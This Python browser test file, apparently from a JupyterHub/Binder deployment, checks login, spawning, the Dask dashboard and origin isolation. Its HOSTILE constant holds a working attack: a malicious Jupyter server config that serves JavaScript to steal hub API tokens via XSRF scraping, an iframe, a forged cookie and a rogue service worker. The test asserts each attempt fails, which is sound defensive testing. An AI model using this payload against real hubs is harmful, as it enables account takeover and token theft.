"""The hub in a real browser: what a newcomer meets, and what a hostile repository gets."""

import functools
import json
import shutil
import threading
from collections.abc import Iterator
from http.server import ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright

from hub_user.user import User
from local_hub import git_repositories, hub_status
from tests.local_hub.conftest import Rig

pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]

ARGUMENTS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
PATIENCE_MS = 180_000
GATEWAY = "/services/dask-gateway/api/v1/clusters/"

# What a repository can do to whoever launches it: its server answers with a page of its own, which
# tries to become its user. Written for this test; the title says when it is through.
HOSTILE = r'''
PAGE = """<!doctype html><title>trying</title><script>
const hub = location.protocol + '//' + location.host.split('.').slice(1).join('.');
const me = location.pathname.split('/')[2], seen = {};
async function attempt(name, work) {
  try { seen[name] = await work(); } catch (error) { seen[name] = 'refused: ' + error.message; }
}
async function mint(base) {
  const page = await fetch(base + '/hub/token', {credentials: 'include'});
  const token = (await page.text()).match(/xsrf_token: "([^"]+)"/);
  if (!token) return 'refused: no token on the page';
  const made = await fetch(base + '/hub/api/users/' + me + '/tokens?_xsrf=' + token[1],
    {method: 'POST', credentials: 'include', body: '{"note": "stolen"}'});
  return made.status == 201 ? 'STOLEN' : 'refused: ' + made.status;
}
(async () => {
  await attempt('token on its own origin', () => mint(''));
  await attempt('token on the hub', () => mint(hub));
  await attempt('blind request', async () => {
    await fetch(hub + '/hub/api/users/' + me + '/tokens',
      {method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"note": "stolen"}'});
    return 'sent';
  });
  await attempt('frame', () => new Promise(done => {
    const frame = document.createElement('iframe');
    frame.src = hub + '/hub/token';
    frame.onload = () => {
      try { done('STOLEN ' + frame.contentDocument.body.innerHTML.length); }
      catch (error) { done('refused: ' + error.message); }
    };
    document.body.append(frame);
  }));
  await attempt('cookie', () => {
    const parent = location.hostname.split('.').slice(1).join('.');
    document.cookie = '_xsrf=forged; path=/; domain=' + parent;
    return 'set';
  });
  await attempt('worker', async () => {
    const mine = '/user/' + me + '/';
    await navigator.serviceWorker.register(mine + 'lab/evil.js', {scope: mine});
    return 'registered';
  });
  document.title = 'done ' + JSON.stringify(seen);
})();
</script><body>A nice notebook</body>"""
WORKER = """self.addEventListener('fetch', event => event.respondWith(
  new Response('<title>STOLEN</title>', {headers: {'Content-Type': 'text/html'}})));"""
from jupyterlab_server.handlers import LabHandler
def get(self, *_, **__):
    if self.request.path.endswith("evil.js"):
        self.set_header("Content-Type", "text/javascript")
        self.set_header("Service-Worker-Allowed", "/")
        self.finish(WORKER)
    else:
        self.finish(PAGE)
LabHandler.get = get
from tornado.web import RequestHandler
def prepare(self): pass
LabHandler.prepare = prepare
'''


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    chromium = shutil.which("chromium") or shutil.which("google-chrome")
    if not chromium:
        pytest.skip("needs the program chromium")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(PATIENCE_MS)
    yield context
    context.close()


def log_in(context: BrowserContext, rig: Rig, name: str) -> Page:
    """Return a page on the hub's home, as somebody who has logged in there."""
    page = context.new_page()
    page.goto(f"{rig.url}/hub/login?next=/hub/home")
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", hub_status.password(rig.place, name))
    page.click("input[type=submit]")
    page.wait_for_url("**/hub/home")
    return page


def served(folder: Path, files: dict[str, str]) -> Iterator[str]:
    """Serve a repository from `folder`, and yield what a launch of it is called."""
    commit = git_repositories.make(folder / "nice", files)
    handler = functools.partial(git_repositories.QuietHandler, directory=str(folder))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        address = f"http://127.0.0.1:{server.server_port}/nice/.git"
        yield f"git/{quote(address, safe='')}/{commit}"
        server.shutdown()


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[str]:
    yield from served(tmp_path, {".config/jupyter/jupyter_server_config.py": HOSTILE})


def tokens(user: User) -> list[str]:
    known = user.ask("GET", f"/hub/api/users/{user.path}/tokens").json()
    return sorted(one["note"] for one in known["api_tokens"])


def test_a_hostile_repository_does_not_become_its_user(
    rig: Rig, context: BrowserContext, hostile: str
) -> None:
    learner = rig.user("learner-05")
    page = log_in(context, rig, "learner-05")
    # A link in an e-mail is enough: the page launches by itself and goes to the server.
    page.goto(f"{rig.state.service_url('binder')}/v2/{hostile}")
    page.wait_for_url("**/user/learner-05/**")
    page.wait_for_function("document.title.startsWith('done')")
    seen = json.loads(page.title().removeprefix("done "))
    launched = urlsplit(page.url).hostname
    assert launched
    assert launched.endswith("--launch.localhost")
    # What it tried did reach a browser, and got nothing: the one that works is on its own origin.
    assert seen.pop("worker") == "registered"
    assert seen.pop("blind request") == "sent"
    seen.pop("cookie")
    assert [what for what, came in seen.items() if not came.startswith("refused")] == []
    assert "stolen" not in tokens(learner)
    # What it left in the browser does not meet the person's own server.
    learner.stop_server()
    learner.start_server()
    page.goto(f"{rig.url}/hub/user/learner-05/lab")
    page.wait_for_selector(".jp-LauncherCard")
    assert urlsplit(page.url).hostname == "learner-05.localhost"
    learner.stop_server()


def test_a_newcomer_gets_from_the_log_in_to_a_dashboard(rig: Rig, context: BrowserContext) -> None:
    page = log_in(context, rig, "learner-06")
    assert "without activity" in page.inner_text("body")  # when what stops
    page.goto(f"{rig.url}/hub/spawn")
    profiles = rig.state.settings["profiles"]
    for profile in profiles:
        assert profile["name"] in page.inner_text("body")
    page.check(f"input[value={profiles[1]['slug']}]")
    page.click("#spawn_form [type=submit]")
    page.wait_for_url("**/user/learner-06/lab**")
    learner = rig.user("learner-06")
    (server,) = learner.whoami()["servers"].values()
    assert server["user_options"] == {"profile": profiles[1]["slug"]}
    # Whoever comes for the first time is on a notebook that shows Dask on real data.
    page.wait_for_selector(".jp-RenderedMarkdown h1:has-text('Welcome')")
    page.wait_for_selector("text=| Idle")  # a cell that is run before is forgotten
    page.locator(".jp-Notebook .jp-Cell").first.click()
    for _ in range(4):  # text, data, text, the cluster
        page.keyboard.press("Shift+Enter")
    # The widget; its buttons are folded away. JupyterLab draws only what is near the window.
    page.wait_for_selector(".jp-OutputArea-output button:has-text('Scale')", state="attached")
    link = page.get_attribute(".jp-OutputArea-output a[href$='/status']", "href")
    assert link
    for _ in range(2):  # text, the computation
        page.keyboard.press("Shift+Enter")
    page.wait_for_selector(".jp-OutputArea-output td:has-text('175.04')")  # of the last table
    assert link.startswith(f"{rig.state.service_url('dask-gateway')}/clusters/")
    dashboard = context.new_page()
    dashboard.goto(link)
    dashboard.wait_for_selector(".bk-Figure")
    assert "Dask" in dashboard.title()
    learner.stop_server()
    for name in learner.ask("GET", GATEWAY, scheme="jupyterhub").json():
        learner.ask("DELETE", f"{GATEWAY}{name}", scheme="jupyterhub")


def test_binders_page_launches_what_a_newcomer_asks_for(rig: Rig, context: BrowserContext) -> None:
    page = log_in(context, rig, "learner-04")
    page.click("a:has-text('Binder')")
    page.wait_for_url(f"{rig.state.service_url('binder')}/")
    example = hub_status.repository(rig.place, "second")
    page.goto(f"{rig.state.service_url('binder')}/v2/{example}")
    page.wait_for_url("**--launch.localhost**")
    page.wait_for_selector("[title*='requirements.txt']")
    rig.user("learner-04").stop_server()


def test_nobody_meets_anothers_page_on_ones_own_origin(rig: Rig, context: BrowserContext) -> None:
    """Whoever opens a colleague's server is on that colleague's origin, and is not let in."""
    learner = rig.user("learner-03")
    learner.start_server()
    address = f"{learner.origin('/user/learner-03/')}/user/learner-03/lab"
    page = log_in(context, rig, "learner-02")
    answer = page.goto(address)
    assert answer
    assert answer.status in (403, 404)
    assert page.locator(".jp-LauncherCard").count() == 0
    learner.stop_server()


# Cookies go along, since all names under localhost are of one site: only the origin differs.
OPEN_SOCKET = """address => new Promise(done => {
  const socket = new WebSocket(address);
  socket.onopen = () => done('open');
  socket.onerror = () => done('refused');
})"""


def test_a_page_of_another_origin_opens_no_socket(rig: Rig, context: BrowserContext) -> None:
    learner = rig.user("learner-10")
    learner.start_server()
    page = log_in(context, rig, "learner-10")
    page.goto(f"{rig.url}/hub/user/learner-10/lab")
    page.wait_for_selector(".jp-LauncherCard")
    with learner.kernel():
        origin = learner.origin("/user/learner-10/").replace("http", "ws", 1)
        kernel = learner.kernels()[-1]
        address = f"{origin}/user/learner-10/api/kernels/{kernel}/channels"
        assert page.evaluate(OPEN_SOCKET, address) == "open"
        page.goto(f"{rig.state.service_url('binder')}/")
        assert page.evaluate(OPEN_SOCKET, address) == "refused"
    learner.stop_server()
